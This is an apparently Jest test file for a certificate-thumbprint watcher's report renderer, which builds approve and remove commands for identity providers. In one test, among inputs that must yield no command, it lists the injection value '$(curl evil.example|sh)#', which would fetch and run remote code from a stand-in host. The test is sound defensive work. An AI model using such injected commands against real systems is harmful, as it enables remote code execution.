import type { Finding } from '../../../lambda/findings/finding';
import { renderFinding } from '../../../lambda/notify/rendered-finding';
import { PROVIDER_FORMAT } from '../../../lambda/state/state-format';
import { A, B, stateOf } from '../../support/remembered';
import { EXTERNAL_CHANGE, SAMPLES, sampleOf } from '../../support/sample-findings';

const COMMANDS = {
  approveCommand: (approvals: readonly object[]) => `APPROVE ${JSON.stringify(approvals)}`,
  removeCommand: (provider: string, thumbprint: string, evenIfLive?: true) =>
    `REMOVE ${provider} ${thumbprint}${evenIfLive ? ' EVEN IF LIVE' : ''}`,
};

function commandsFor(...of: Parameters<typeof renderFinding>) {
  return renderFinding(...of).commands;
}

const PIN = sampleOf('external-pin-unapproved');

test('a remove command is made for each provider, as the finding asks for it', () => {
  expect(commandsFor(sampleOf('trusted-on-first-use'), ['one', 'two'], COMMANDS)).toEqual([
    {
      purpose: 'Remove it and keep it out',
      command: `REMOVE one ${A} EVEN IF LIVE\nREMOVE two ${A} EVEN IF LIVE`,
    },
  ]);
});

test('one command approves for all providers', () => {
  expect(commandsFor(sampleOf('approval-required'), ['one', 'two'], COMMANDS)).toEqual([
    {
      purpose: 'Approve it',
      command: `APPROVE [{"provider":"one","thumbprint":"${A}"},{"provider":"two","thumbprint":"${A}"}]`,
    },
  ]);
});

test('an approve command and a remove command each say what they are for', () => {
  expect(commandsFor(PIN, ['one'], COMMANDS)).toEqual([
    { purpose: 'Approve it', command: `APPROVE [{"provider":"one","thumbprint":"${A}"}]` },
    { purpose: 'Remove it and keep it out', command: `REMOVE one ${A} EVEN IF LIVE` },
  ]);
});

test('the purposes of several commands of one kind name the thumbprints', () => {
  const change: Finding = { code: 'external-change', facts: { ...EXTERNAL_CHANGE, added: [A, B] } };
  expect(commandsFor(change, ['one'], COMMANDS).map(({ purpose }) => purpose)).toEqual([
    `Remove ${A} and keep it out`,
    `Remove ${B} and keep it out`,
  ]);
});

test.each([
  ['no removal could be kept', { ...COMMANDS, removeCommand: null }],
  ['there is no way to remove', { approveCommand: COMMANDS.approveCommand }],
])('a command that cannot be made is left out, with its purpose: %s', (_, commands) => {
  expect(commandsFor(PIN, ['one'], commands).map(({ purpose }) => purpose)).toEqual(['Approve it']);
  expect(commandsFor(sampleOf('trusted-on-first-use'), ['one'], commands)).toEqual([]);
});

test('a command pins ahead what no host presents', () => {
  expect(commandsFor(sampleOf('external-entry-lost'), ['one'], COMMANDS)).toEqual([
    { purpose: 'Pin it again', command: `APPROVE [{"provider":"one","thumbprint":"${A}","stage":true}]` },
  ]);
});

test.each(['approval-required', 'trusted-on-first-use', 'staged-unused', 'external-entry-lost'] as const)(
  'a finding about something that is not a thumbprint has no command: %s',
  (code) => {
    for (const about of [`${A} `, A.slice(1), A.toUpperCase().replace('1', 'A'), '$(curl evil.example|sh)#', '']) {
      expect(commandsFor({ ...sampleOf(code), about }, ['one'], COMMANDS)).toEqual([]);
    }
  },
);

test('a finding of a report has its data, its words, and its commands beside the advice', () => {
  expect(renderFinding(PIN, ['one'], COMMANDS)).toEqual({
    code: 'external-pin-unapproved',
    severity: 'warning',
    about: A,
    facts: { enforced: true },
    message: `Someone else added ${A} to the list, and the issuer's present chain rests on it alone. The watcher adds and removes nothing because of it.`,
    advice: 'Find out who added it, and why. Approve it only if it is meant to be trusted; else remove it.',
    commands: [
      { purpose: 'Approve it', command: `APPROVE [{"provider":"one","thumbprint":"${A}"}]` },
      { purpose: 'Remove it and keep it out', command: `REMOVE one ${A} EVEN IF LIVE` },
    ],
  });
  expect(renderFinding(sampleOf('list-restored'), ['one'], COMMANDS)).toMatchObject({ advice: '', commands: [] });
});

test('a finding without a subject of its own has none in a report, and a subject is printable there', () => {
  expect(renderFinding(sampleOf('jwks-empty'), ['one'], COMMANDS)).not.toHaveProperty('about');
  const about = 'a\u202Eb\nc';
  expect(renderFinding({ ...sampleOf('timed-out'), about }, ['one'], COMMANDS).about).toBe('a?b?c');
});

/** Returns a finding as a later run reads it back from the table. */
function readBack(finding: Finding): Finding | undefined {
  const kept = PROVIDER_FORMAT.print(stateOf({}, { outbox: [{ finding, at: new Date(0), runId: 'x' }] }));
  return PROVIDER_FORMAT.parse(kept).outbox[0]?.finding;
}

test('a finding read back from the table has the words and the commands that it had', () => {
  const all = SAMPLES.map((finding) => renderFinding(finding, ['one'], COMMANDS));
  expect(all.filter(({ commands }) => commands.length > 0).length).toBeGreaterThan(10);
  const later = SAMPLES.map(readBack).map((finding) => finding && renderFinding(finding, ['one'], COMMANDS));
  expect(later).toEqual(all);
});
